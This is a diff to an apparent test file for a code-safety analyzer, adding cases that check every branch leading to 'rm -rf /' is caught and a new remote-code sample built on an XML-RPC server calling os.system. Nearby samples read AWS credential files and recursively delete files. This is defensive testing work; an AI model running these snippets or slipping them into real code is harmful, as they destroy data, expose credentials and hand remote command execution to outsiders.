@@ -68,6 +68,22 @@ def test_commands_are_followed_to_where_they_run(text: str) -> None:
 
 
 @pytest.mark.parametrize(
+    "text",
+    [
+        "import os\nif a:\n    c = 'rm -rf /'\nelse:\n    c = 'ls'\nos.system(c)",
+        "import os\nc = 'rm -rf /'\nif a:\n    c = 'ls'\nos.system(c)",
+        "import os\nmatch a:\n    case 1:\n        c = 'rm -rf /'\n    case _:\n        c = 'ls'\nos.system(c)",
+        "import os\nos.system('ls' if a else 'rm -rf /')",
+        "import subprocess\nw = '/tmp/x' if a else '/'\nsubprocess.run(['rm', '-rf', w])",
+    ],
+)
+def test_every_branch_counts(text: str) -> None:
+    shell = Shell()
+    judge_python(text, shell)
+    assert {"rm -rf /"} <= set(shell.commands), shell.commands
+
+
+@pytest.mark.parametrize(
     ("category", "text"),
     [
         (Category.CRED_READ, "import configparser\nconfigparser.ConfigParser().read('/root/.aws/credentials')"),
@@ -84,6 +100,8 @@ def test_commands_are_followed_to_where_they_run(text: str) -> None:
         "http.client.HTTPSConnection('a.example').request('POST', '/', t)"),
         (Category.REMOTE_CODE, "import anyweb, os\napp = anyweb.App()\n@app.get('/run')\ndef run(c):\n    "
         "os.system(c)"),
+        (Category.REMOTE_CODE, "from xmlrpc.server import SimpleXMLRPCServer as S\nimport os\n"
+        "S(('', 1)).register_function(lambda c: os.system(c), 'run')"),
         (Category.REMOTE_CODE, "import asyncio, os\nasync def h(r, w):\n    os.system((await r.readline()).decode())\n"
         "asyncio.run(asyncio.start_server(h, '0.0.0.0', 1))"),
         (Category.DESTROY, "from pathlib import Path\n[p.unlink() for p in Path('/var/lib/app').rglob('*')]"),
